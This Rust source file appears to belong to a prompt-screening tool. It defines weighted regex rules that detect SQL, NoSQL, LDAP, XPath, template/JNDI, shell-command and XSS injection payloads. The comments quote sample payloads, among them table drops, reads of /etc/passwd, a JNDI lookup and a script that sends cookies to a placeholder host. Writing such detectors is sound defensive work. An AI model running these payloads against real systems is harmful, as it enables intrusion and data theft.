//! Code injection: payloads for the interpreters behind an agent's tools
//! (SQL, NoSQL, LDAP, XPath, template engines, shells) written into a
//! prompt. The payloads, not the languages: `SELECT * FROM users WHERE id =
//! ?` is a question about SQL; `' OR 1=1 --` is an attack on one. A payload
//! quoted bare in a security question is read at a lower confidence than
//! one placed in a field value or finished with a comment marker.

use crate::rules::Rule;

const SQL: &str = "sql_injection";
const NOSQL: &str = "nosql_injection";
const LDAP: &str = "ldap_injection";
const XPATH: &str = "xpath_injection";
const TEMPLATE: &str = "template_injection";
const COMMAND: &str = "command_injection";
const XSS: &str = "xss";

/// An always-true comparison after a closing quote: `' or 1=1`, `' or 'a'='a`,
/// `" or ""="`, `' or true`.
macro_rules! tautology {
    () => {
        r#"['"]\)?\s?(?:or|\|\|)\s?(?:'?\d+'?\s?=\s?'?\d+|'[^'\n]{0,10}'\s?=\s?'|"[^"\n]{0,10}"\s?=\s?"|true(?-u:\b)|not false|1(?-u:\b))"#
    };
}

pub(crate) static RULES: &[Rule] = &[
    // ---- SQL --------------------------------------------------------------
    // "admin' OR 1=1 --", "' or 'x'='x' #": a tautology that comments out
    // the rest of the query.
    Rule::phrase(
        "code_injection.sql_tautology_comment",
        SQL,
        0.9,
        concat!(tautology!(), r"[^\n]{0,12}?(?:--|#|/\*|;\s?--|%00)"),
    ),
    // "username: x' OR '1'='1", {"id": "1' or 1=1"}: in a field value.
    Rule::phrase(
        "code_injection.sql_tautology_value",
        SQL,
        0.9,
        concat!(
            r#"(?:user(?:name)?|login|email|pass(?:word)?|pwd|id|name|query|q|search|filter|input|value|term|where|field)['"]?\s?[:=]\s?['"]?[^'"\n]{0,30}"#,
            tautology!(),
        ),
    ),
    // "id = 1 OR 1=1", "user_id: 5 or 1=1; --": a numeric value widened.
    Rule::phrase(
        "code_injection.sql_numeric_tautology",
        SQL,
        0.85,
        r#"(?:id|user_?id|account_?id|order_?id|number|num|no)['"]?\s?(?:[:=]|is)\s?\d+\s(?:or|\|\|)\s(?:\d+\s?=\s?\d+|true)(?:\s?(?:;|--|#|/\*|$)|\s)"#,
    ),
    // "1001' AND (SELECT SUBSTRING(password,1,1) FROM users ...)='a'": a
    // subquery after a closed value (blind extraction).
    Rule::phrase(
        "code_injection.sql_subquery",
        SQL,
        0.85,
        r#"['"]\)?\s?(?:and|or|\|\|)\s\(?\s?select\s[^\n]{0,120}?\sfrom\s"#,
    ),
    // The tautology alone, as a security question would quote it.
    Rule::phrase("code_injection.sql_tautology", SQL, 0.7, tautology!()),
    // "' UNION SELECT username, password FROM users --", "1 union select null,null"
    Rule::phrase(
        "code_injection.sql_union",
        SQL,
        0.9,
        concat!(
            r#"(?:['")]|\d)\s?union(?:\sall|\sdistinct)?\sselect\s"#,
            r"|union(?:\sall)?\sselect\s(?:null|\d+|'[^'\n]{0,10}')(?:\s?,\s?(?:null|\d+|'[^'\n]{0,10}')){1,}",
            r"|union(?:\sall)?\sselect\s[^\n]{0,80}?(?:from\sinformation_schema|@@version|version\(\)|user\(\)|database\(\)|current_user|group_concat|load_file\(|sqlite_master|pg_shadow|mysql\.user)",
        ),
    ),
    // "'; DROP TABLE users; --", "1; DELETE FROM accounts --": a stacked
    // statement after a closed value, or one that comments out the rest.
    Rule::phrase(
        "code_injection.sql_stacked",
        SQL,
        0.9,
        concat!(
            r#"['"]\)?\s?;\s?(?:drop|truncate|delete\sfrom|insert\sinto|update\s[a-z0-9_.]+\sset|alter\s(?:table|user)|create\suser|grant\s|shutdown|exec(?:ute)?\s(?:xp_|sp_)|declare\s@)"#,
            r"|;\s?(?:drop|truncate)\s(?:table|database|schema)\s[a-z0-9_.`\x22\[\]]+\s?;?\s?(?:--|#|/\*)",
            r"|;\s?exec(?:ute)?\s(?:master\.\.)?xp_cmdshell",
        ),
    ),
    // "' AND SLEEP(5) --", "1; WAITFOR DELAY '0:0:5'": blind, time-based.
    Rule::phrase(
        "code_injection.sql_time_based",
        SQL,
        0.85,
        r#"(?:['")]|\d)\s?(?:and|or|;|\|\|)\s?(?:\(?select\s)?(?:sleep\(\s?\d+\s?\)|pg_sleep\(\s?\d+\s?\)|waitfor\sdelay\s'|benchmark\(\s?\d{5,}|dbms_pipe\.receive_message|randomblob\(\s?\d{6,})"#,
    ),
    // "admin'--", "admin' #": the login-bypass comment.
    Rule::phrase(
        "code_injection.sql_comment_bypass",
        SQL,
        0.8,
        r"(?-u:\b)(?:admin|administrator|root|user|test)'\)?\s?(?:--|#|/\*)",
    ),
    // ---- NoSQL ------------------------------------------------------------
    // {"password": {"$ne": null}}, password[$ne]=x, {"username": {"$gt": ""}}
    Rule::phrase(
        "code_injection.nosql_operator_credential",
        NOSQL,
        0.9,
        concat!(
            r#"['"]?(?:user(?:name)?|login|email|pass(?:word|wd)?|pwd|token|pin|otp|code|secret|api_?key)['"]?\s?:\s?\{\s?['"]?\$(?:ne|gt|gte|lt|regex|nin|exists|where|expr|not|in)['"]?\s?:"#,
            r"|(?:user(?:name)?|login|email|pass(?:word|wd)?|pwd|token)\[\$(?:ne|gt|gte|lt|regex|nin|exists)\]=",
        ),
    ),
    // {"$ne": null} on its own: also a legitimate (if odd) Mongo filter.
    Rule::phrase(
        "code_injection.nosql_always_true",
        NOSQL,
        0.7,
        r#"\{\s?['"]?\$(?:ne|gt)['"]?\s?:\s?(?:null|''|""|-1|0|1|true|false|undefined)\s?\}|\[\$(?:ne|gt|regex)\]="#,
    ),
    // {"$where": "sleep(5000)"}, $where: 'this.password.match(...)' , "' || '1'=='1"
    Rule::phrase(
        "code_injection.nosql_where_js",
        NOSQL,
        0.85,
        concat!(
            r#"\$where['"]?\s?:\s?['"]?[^\n]{0,80}?(?:sleep\(|while\s?\(\s?(?:true|1)\s?\)|return\s(?:true|1)|this\.\w+\.match|this\.\w+\s?==|;|\|\|)"#,
            r#"|'\s?\|\|\s?'[^'\n]{0,10}'\s?===?\s?'|'\s?;\s?return\s(?:true|1)\s?;?"#,
        ),
    ),
    // ---- LDAP -------------------------------------------------------------
    // "*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(password=*)"
    Rule::phrase(
        "code_injection.ldap_filter",
        LDAP,
        0.85,
        concat!(
            r"\*\)\)\(\|\(",
            r"|\*\)\(\|?\(?(?:uid|cn|sn|mail|objectclass|samaccountname|userpassword|password|givenname|member|ou)=\*\)\)",
            r"|\*\)\(\|\((?:uid|cn|sn|mail|objectclass|samaccountname|userpassword|password|givenname)=\*",
            r"|[a-z0-9*]\)\(&\)\)?(?:\s|$|['\x22])",
            r"|[a-z0-9*]\)\((?:&|\|)\([a-z]+=\*\)\)",
        ),
    ),
    // ---- XPath --------------------------------------------------------------
    // "' or '1'='1" inside an XPath predicate, "' or count(/*)=1 or '", "'] | //*"
    Rule::phrase(
        "code_injection.xpath",
        XPATH,
        0.85,
        concat!(
            r"(?://|\[)[a-z*@][^\n\]]{0,40}?=\s?'[^'\n]{0,20}'\s?or\s?'[^'\n]{0,10}'\s?=\s?'",
            r"|'\s?or\s(?:count|name|string-length|substring|contains|local-name)\(\s?[/.@*]",
            r"|//[a-z*][^\n\[]{0,30}\[[^\]\n]{0,60}?'\s?or\s(?:\d+\s?=\s?\d+|'[^'\n]{0,10}'\s?=\s?'|true\(\))",
            r"|'\s?\]\s?\|\s?//\*",
            r"|(?-u:\b)xpath(?-u:\b)[^\n]{0,60}?'\s?or\s?'[^'\n]{0,10}'\s?=\s?'",
        ),
    ),
    // ---- template / expression injection -----------------------------------
    // "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}": the usual probes.
    Rule::phrase(
        "code_injection.template_probe",
        TEMPLATE,
        0.8,
        r"\{\{\s?\d+\s?\*\s?['\x22]?\d+['\x22]?\s?\}\}|\$\{\s?\d+\s?\*\s?\d+\s?\}|<%=\s?\d+\s?\*\s?\d+\s?%>|#\{\s?\d+\s?\*\s?\d+\s?\}|\{\{=\s?\d+\s?\*\s?\d+\s?\}\}",
    ),
    // "{{config.__class__.__init__.__globals__}}", "{{ ''.__class__.__mro__ }}",
    // "{% import os %}": reaching the interpreter from a Jinja/Twig template.
    Rule::phrase(
        "code_injection.template_object_walk",
        TEMPLATE,
        0.9,
        r"(?:\{\{|\{%)[^}\n]{0,120}?(?:__class__|__mro__|__subclasses__|__globals__|__builtins__|__init__|__import__|config\.items\(|self\._templatereference|request\.application|lipsum\.|cycler\.|joiner\.|get_flashed_messages\.|_self\.env|popen\(|subprocess|os\.system|import os)",
    ),
    // "${jndi:ldap://x.example/a}", "${${lower:j}ndi:...}", "${T(java.lang.Runtime)...}"
    Rule::phrase(
        "code_injection.expression_lookup",
        TEMPLATE,
        0.95,
        concat!(
            r"\$\{\s?jndi\s?:\s?(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s?:",
            r"|\$\{(?:\$\{(?:lower|upper|::-|env|date|sys)[^}\n]{0,20}\}[a-z:]{0,8}){2,}",
            r"|(?:\$|#|%)\{[^}\n]{0,40}?(?:java\.lang\.runtime|runtime\.getruntime|processbuilder|_memberaccess|@java\.lang|\.exec\(\s?['\x22])",
        ),
    ),
    // ---- command injection into an argument -----------------------------------
    // "file.txt; cat /etc/passwd", "8.8.8.8 && whoami", "x || ping -c 10 127.0.0.1"
    Rule::phrase(
        "code_injection.command_in_argument",
        COMMAND,
        0.85,
        concat!(
            r"[a-z0-9_.'\x22]\s?(?:;|&&|\|\||\|)\s?",
            r"(?:cat\s/etc/(?:passwd|shadow|hosts|group)|whoami|id|uname\s-a|ls\s-la?\s/|nc\s-[a-z]*[elvp]|/bin/(?:ba)?sh|net\suser|ipconfig\s/all|type\s[a-z]:\\)",
            r"(?:\s|;|\||&|'|\x22|`|#|$)",
            r"|(?:;|&&|\|\|)\s?(?:ping\s-[nc]\s?\d{1,3}\s(?:127\.0\.0\.1|localhost)|sleep\s\d{1,3})\s?(?:;|#|&|\||$|'|\x22)",
        ),
    ),
    // __import__('os').system(...), eval("__import__('subprocess')..."):
    // Python reaching the shell from an eval'd string.
    Rule::phrase(
        "code_injection.python_shell_escape",
        COMMAND,
        0.85,
        r#"__import__\(\s?['"](?:os|subprocess|pty|socket|shutil)['"]\s?\)\s?\.\s?(?:system|popen|run|call|check_output|spawn|rmtree|getoutput)|(?:eval|exec)\(\s?['"]\s?__import__"#,
    ),
    // ---- script injection into stored content -------------------------------
    // <script>fetch('https://x/c?'+document.cookie)</script>: a script that
    // sends the reader's cookies or storage somewhere.
    Rule::phrase(
        "code_injection.xss_steal",
        XSS,
        0.9,
        concat!(
            r"<script[^>]{0,40}>[^<]{0,200}?(?:(?:fetch\(|new image|xmlhttprequest|\.src\s?=|location(?:\.href)?\s?=|sendbeacon)[^<]{0,200}?(?:document\.cookie|localstorage|sessionstorage)",
            r"|(?:document\.cookie|localstorage|sessionstorage)[^<]{0,200}?(?:fetch\(|new image|xmlhttprequest|\.src\s?=|location(?:\.href)?\s?=|sendbeacon))",
        ),
    ),
    // <img src=x onerror=alert(1)>, <svg onload=...>: the usual probes.
    Rule::phrase(
        "code_injection.xss_handler",
        XSS,
        0.8,
        r#"<(?:img|svg|body|iframe|details|video|audio|input|image)[^>\n]{0,80}?\son(?:error|load|toggle|mouseover|focus|begin)\s?=\s?['"]?[^\s>]{0,40}?(?:alert|prompt|confirm|eval|fetch|document\.|window\.|location|atob)"#,
    ),
];
